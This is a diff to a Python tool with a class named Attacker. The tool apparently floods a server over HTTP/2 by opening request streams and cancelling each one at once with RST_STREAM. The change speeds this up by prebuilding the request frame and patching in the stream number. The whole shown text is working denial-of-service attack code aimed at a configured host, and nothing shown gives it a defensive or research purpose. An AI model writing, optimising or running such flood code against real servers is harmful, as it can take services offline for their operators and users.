@@ -21,6 +21,11 @@ from .http2 import ACK, GOAWAY, PING, RST_STREAM, Http2
 
 BATCH = 50
 CANCEL = struct.pack("!I", 8)
+PATH = b"/reset/%04d/%05d/%05d"
+"""Of a connection's number, how many came before it, and the stream: all of one length."""
+ASKED = ((b":method", b"GET"), (b":scheme", b"https"), (b":authority", HOST.encode()), (b":path", PATH % (0, 0, 0)))
+BEFORE, AFTER = frames.message(0, ASKED).split(PATH % (0, 0, 0))
+"""A request made once: the stream's number stands in the last four octets of its frame's nine."""
 
 
 class Attacker:
@@ -49,9 +54,8 @@ class Attacker:
             self.connection = None
 
     def _opened_and_reset(self, stream: int) -> bytes:
-        path = f"/reset/{self.number}/{self.connections}/{stream}".encode()
-        asked = ((b":method", b"GET"), (b":scheme", b"https"), (b":authority", HOST.encode()), (b":path", path))
-        return frames.message(stream, asked) + frames.frame(RST_STREAM, stream, CANCEL)
+        named, path = struct.pack("!I", stream), PATH % (self.number, self.connections, stream)
+        return BEFORE[:5] + named + BEFORE[9:] + path + AFTER + frames.frame(RST_STREAM, stream, CANCEL)
 
     @staticmethod
     def _heard(connection: Http2, octets: bytes) -> str | None:
